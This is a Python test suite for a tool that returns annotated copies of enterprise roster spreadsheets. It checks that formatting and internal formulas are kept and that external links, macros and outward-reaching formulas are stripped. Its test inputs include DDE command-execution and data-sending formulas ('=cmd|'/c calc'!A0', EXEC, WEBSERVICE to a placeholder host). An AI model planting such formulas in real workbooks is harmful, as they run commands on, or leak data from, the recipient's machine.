"""What of the enterprise's own work a returned copy keeps, and what may not travel on."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Border, Font, PatternFill, Protection, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from guantong.reports.returned.in_place.formulas import stays_inside
from guantong.schemas.files.workbook import UNCALCULATED
from tests.support.returned_copies import (
    altered,
    bytes_of,
    canonical,
    copied,
    fill,
    finding,
    is_edited,
    part,
    remarks,
    roster,
    values,
    written,
)

THIN = Border(*[Side("thin")] * 4)


def furnished() -> openpyxl.Workbook:
    """A roster with all that an enterprise may have put into it."""
    book = roster([["姓名", "日期", "年龄"], ["张示例", "2019.13", None], ["李示例", "2020", None]])
    sheet = book.active
    words = book.create_sheet("字典")
    words["A1"], words.sheet_state = "合格", "veryHidden"
    sheet["C2"] = "=LEN(A2)+字典!A9"
    sheet["A1"].font, sheet["A1"].border, sheet["A1"].fill = Font(name="黑体", bold=True), THIN, PatternFill("solid", fgColor="FF00FF00")
    sheet["B3"].number_format = "yyyy/mm"
    sheet.column_dimensions["B"].width, sheet.row_dimensions[2].height = 33, 44
    sheet.row_dimensions[3].hidden, sheet.column_dimensions["F"].hidden = True, True
    sheet.freeze_panes, sheet.auto_filter.ref = "B2", "A1:C3"
    sheet.print_title_rows, sheet.page_setup.orientation = "1:1", "landscape"
    rule = DataValidation(type="list", formula1="字典!$A$1:$A$3", showErrorMessage=True)
    rule.add("C2:C9")
    sheet.add_data_validation(rule)
    sheet.conditional_formatting.add("A2:A9", CellIsRule("equal", ["1"], fill=PatternFill(bgColor="FFFF0000")))
    sheet["A2"].comment = Comment("他们自己的批注", "李会计")
    book.defined_names["名单"] = DefinedName("名单", attr_text="花名册!$A$1:$A$3")
    return book


def test_an_annotated_original_keeps_what_the_enterprise_made(tmp_path):
    book = copied(tmp_path, bytes_of(furnished()))
    sheet = book["花名册"]
    assert is_edited(book) and "没有保留" not in remarks(book)
    assert sheet["C2"].value == "=LEN(A2)+字典!A9" and book["字典"].sheet_state == "veryHidden"
    assert (sheet["A1"].font.name, sheet["A1"].border.left.style, fill(sheet["A1"])) == ("黑体", "thin", "FF00FF00")
    assert (sheet["B3"].number_format, sheet.column_dimensions["B"].width, sheet.row_dimensions[2].height) == ("yyyy/mm", 33, 44)
    assert sheet.row_dimensions[3].hidden and sheet.column_dimensions["F"].hidden
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("B2", "A1:C3", "$1:$1")
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["C2:C9"]
    assert [str(area.sqref) for area in sheet.conditional_formatting] == ["A2:A9"]
    assert (sheet["A2"].comment.author, sheet["A2"].comment.text) == ("李会计", "他们自己的批注")
    assert "名单" in book.defined_names and sheet.page_setup.orientation == "landscape"


def test_rich_text_and_lists_from_other_sheets_of_the_newer_kind_are_kept(tmp_path):
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet, bold = book.add_worksheet("花名册"), book.add_format({"bold": True})
        sheet.write_row(0, 0, ["姓名", "日期"])
        sheet.write_rich_string(1, 0, "张", bold, "示", "例 ")
    extension = (
        '<extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}">'
        '<x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1"><x14:dataValidation type="list" '
        'allowBlank="1" showErrorMessage="1" xr:uid="{1}" xmlns:xr="x"><x14:formula1><xm:f>字典!$A$1:$A$3</xm:f></x14:formula1>'
        "<xm:sqref>B2:B9</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
    )
    data = altered(content.getvalue(), "xl/worksheets/sheet1.xml", "</worksheet>", extension)
    path = written(tmp_path, data)
    book = openpyxl.load_workbook(path, rich_text=True)
    before, after = (canonical(part(each, "xl/worksheets/sheet1.xml"), "extLst") for each in (data, path))
    assert len(before) == 1 and before == after and "没有保留" not in remarks(book)
    assert is_edited(book) and book["花名册"]["A2"].value[1].font.b and str(book["花名册"]["A2"].value) == "张示例 "


def test_formulas_stay_with_their_values_and_those_that_reach_out_become_values(tmp_path):
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("花名册")
        sheet.write_row(0, 0, ["姓名", "日期"])
        for row, (formula, value) in enumerate(
            [("=1+1", 2), ('="a"&"<b>"', "a<b>"), ("=TRUE", True), ("=NA()", "#N/A"), ("=[1]外!A1", "外面"), ("=cmd|'/c calc'!A0", 7)], 1
        ):
            sheet.write_formula(row, 1, formula, None, value)
        sheet.write_array_formula("C2:C3", "{=A1:A2}", None, "姓名")
    data = content.getvalue()
    path = written(tmp_path, data)
    book = openpyxl.load_workbook(path)
    assert [book["花名册"].cell(row, 2).value for row in range(2, 8)] == ["=1+1", '="a"&"<b>"', "=TRUE", "=NA()", "外面", 7]
    assert book["花名册"]["C2"].value.ref == "C2:C3" and "引用外部的公式" in remarks(book) and is_edited(book)
    assert values(path) == values(data) and values(path)["花名册"][1:5] != [["", ""]] * 4
    assert book.calculation.fullCalcOnLoad
    again = values(written(tmp_path, data, plain=True))["花名册"]
    assert [row[1] for row in again[1:]] == [2, "a<b>", True, "#N/A", "外面", 7]


@pytest.mark.parametrize("plain", [False, True])
def test_a_formula_that_was_never_calculated_is_not_lost(tmp_path, plain):
    book = roster()
    book.active["C2"], book.active["C3"] = "=LEN(A2)", "=[1]外!A1"
    sheet = copied(tmp_path, bytes_of(book), plain=plain)["花名册"]
    assert [(sheet[at].value, sheet[at].data_type) for at in ("C2", "C3")] == [("=LEN(A2)", "s" if plain else "f"), ("=[1]外!A1", "s")]


@pytest.mark.parametrize(
    "formula, kept",
    [
        ("=A1&VLOOKUP(A2,'表 (1)'!$A:$B,2,0)", True),
        ("=SUM(名单[年龄])+字典!A1", True),
        ('=IF(A1="[1]x!|http://",1,2)', True),
        ("=_xlfn.TEXTJOIN(1,,A1:A3)", True),
        ("=[1]Sheet1!A1", False),
        ("='C:\\册\\[外.xlsx]表'!A1", False),
        ("='[1]外 表'!A1", False),
        ("=[1]!名", False),
        ("=cmd|'/c calc'!A0", False),
        ('=WEBSERVICE("http://x/"&A1)', False),
        ('=HYPERLINK("http://x","看")', False),
        ("=EXEC(A1)", False),
        ("=自定义(A1)", False),
    ],
)
def test_a_formula_stays_where_it_reaches_nothing_outside(formula, kept):
    assert stays_inside(formula) == kept


def test_what_reaches_out_of_the_workbook_or_runs_is_not_carried_along(tmp_path):
    book = furnished()
    sheet = book.active
    sheet["A3"].hyperlink, sheet["A1"].hyperlink = "http://example.com/", "#字典!A1"
    book.defined_names["外"] = DefinedName("外", attr_text="[1]表!$A$1")
    book.defined_names["宏"] = DefinedName("宏", attr_text='EXEC("calc")')
    rule = DataValidation(type="list", formula1="[1]表!$A$1:$A$3")
    rule.add("B2:B9")
    sheet.add_data_validation(rule)
    sheet.conditional_formatting.add("B2:B9", FormulaRule(["[1]表!$A$1=1"]))
    data = bytes_of(book)
    for name in (
        "xl/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/media/image1.png",
        "xl/printerSettings/printerSettings1.bin",
    ):
        data = altered(data, name, "", "x")
    path = written(tmp_path, data)
    with zipfile.ZipFile(path) as archive:
        assert not re.search("vba|external|media|printer", "\n".join(archive.namelist()))
        assert "example.com" not in "".join(archive.read(name).decode() for name in archive.namelist())
    book = openpyxl.load_workbook(path)
    assert list(book.defined_names) == ["名单"] and is_edited(book)
    assert [str(rule.sqref) for rule in book["花名册"].data_validations.dataValidation] == ["C2:C9"]
    assert [str(area.sqref) for area in book["花名册"].conditional_formatting] == ["A2:A9"]
    assert book["花名册"]["A1"].hyperlink.location == "字典!A1"
    for word in ("宏", "外部链接", "图片", "打印机设置", "超链接", "引用外部的名称", "引用外部的下拉选项"):
        assert word in remarks(book)


def test_rows_with_findings_can_be_corrected_though_the_sheet_is_protected(tmp_path):
    book = roster()
    book.active.protection.sheet, book.active.protection.password = True, "secret"
    book.active["A3"].protection = Protection(locked=True, hidden=True)
    sheet = copied(tmp_path, bytes_of(book), finding(3, "B"))["花名册"]
    assert sheet.protection.sheet and sheet.protection.password == book.active.protection.password
    assert [sheet[at].protection.locked for at in ("A2", "A3", "B3")] == [True, False, False] and sheet["A3"].protection.hidden


def test_a_formula_that_was_calculated_to_0_is_no_formula_never_calculated_in_the_copy(tmp_path):
    """The copy asks Excel to calculate all anew, as workbooks do that no program has calculated."""
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("花名册")
        sheet.write_row(0, 0, ["姓名", "中断月数"])
        sheet.write_formula(1, 1, "=1-1", None, 0)
    calculated = altered(content.getvalue(), "xl/workbook.xml", ' fullCalcOnLoad="1"', "")
    path = written(tmp_path, calculated)
    assert values(path)["花名册"][1] == ["", 0.0] and is_edited(openpyxl.load_workbook(path))
    assert values(written(tmp_path, content.getvalue()))["花名册"][1] == ["", UNCALCULATED]
